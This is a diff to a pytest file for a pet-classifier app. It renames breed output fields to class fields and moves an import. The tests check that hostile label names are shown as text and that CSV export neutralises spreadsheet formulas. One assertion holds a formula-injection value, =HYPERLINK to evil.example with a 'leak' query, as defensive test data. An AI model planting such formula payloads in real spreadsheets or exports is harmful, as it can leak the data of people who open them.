@@ -177,8 +177,9 @@ FOREIGN_JS = """() => {
 @pytest.mark.slow
 @pytest.mark.browser
 def test_demo_page_shows_hostile_names_as_text(browser, hostile):
-    from petclf.app import build_demo, example_files, launch_kwargs
+    from petclf.app import build_demo, example_files
     from petclf.predict import load_model
+    from petclf.serve import launch_kwargs
 
     predictor = load_model(hostile["run"])
     demo = build_demo(predictor, title=TITLE, examples=example_files(predictor.manifest, hostile["run"]))
@@ -210,8 +211,9 @@ def test_demo_page_shows_hostile_names_as_text(browser, hostile):
 def test_classify_returns_the_true_names(hostile):
     from gradio_client import Client, handle_file
 
-    from petclf.app import build_demo, launch_kwargs
+    from petclf.app import build_demo
     from petclf.predict import load_model
+    from petclf.serve import launch_kwargs
 
     predictor = load_model(hostile["run"])
     demo = build_demo(predictor)
@@ -222,7 +224,7 @@ def test_classify_returns_the_true_names(hostile):
     finally:
         demo.close()
     display = predictor.display
-    assert answer["breed_id"] in hostile["vocab"] and answer["breed"] == display[answer["breed_id"]]
+    assert answer["class_id"] in hostile["vocab"] and answer["class"] == display[answer["class_id"]]
     assert {c["label"] for c in breeds["confidences"]} <= set(display.values())
     assert species["label"] in (*GROUPS, "not sure")
     assert {c["label"] for c in species["confidences"]} == set(GROUPS)
@@ -293,8 +295,8 @@ def test_predict_json_keeps_the_true_values(predicted, hostile):
     rows = json.loads(predicted["json"])
     assert {Path(r["file"]).name for r in rows} == {p.name for p in hostile["files"]}
     assert all(r["error"] is None for r in rows)
-    assert {t["breed_id"] for t in rows[0]["top"]} == set(hostile["vocab"])  # names exactly, ANSI and all
-    assert {t["breed"] for t in rows[0]["top"]} == set(hostile["vocab"]) - {HOSTILE["www"]} | {DISPLAY}
+    assert {t["class_id"] for t in rows[0]["top"]} == set(hostile["vocab"])  # names exactly, ANSI and all
+    assert {t["class"] for t in rows[0]["top"]} == set(hostile["vocab"]) - {HOSTILE["www"]} | {DISPLAY}
 
 
 def test_predict_csv_neutralises_formulas_and_keeps_numbers(predicted, hostile):
@@ -306,10 +308,10 @@ def test_predict_csv_neutralises_formulas_and_keeps_numbers(predicted, hostile):
             assert not r[c].startswith(FORMULA_START), (c, r[c])  # no cell a spreadsheet would run
         assert all(0 <= float(r[c]) <= 1 for c in r if c.startswith("prob_"))
     k = len(hostile["vocab"])
-    assert {rows[0][f"breed_id_{i}"] for i in range(1, k + 1)} == {as_cell(c) for c in hostile["vocab"]}
-    breeds = {rows[0][f"breed_{i}"] for i in range(1, k + 1)}
-    assert "'=HYPERLINK(\"http://evil.example/?q=leak\",\"click me\")" in breeds and "'@SUM(1+1)" in breeds
-    assert "'=1+1" in breeds and HOSTILE["newline"] in breeds  # the rest as it is (csv quotes the newline)
+    assert {rows[0][f"class_id_{i}"] for i in range(1, k + 1)} == {as_cell(c) for c in hostile["vocab"]}
+    names = {rows[0][f"class_{i}"] for i in range(1, k + 1)}
+    assert "'=HYPERLINK(\"http://evil.example/?q=leak\",\"click me\")" in names and "'@SUM(1+1)" in names
+    assert "'=1+1" in names and HOSTILE["newline"] in names  # the rest as it is (csv quotes the newline)
 
 
 def test_predict_csv_neutralises_a_file_cell_too(hostile, cli, monkeypatch):
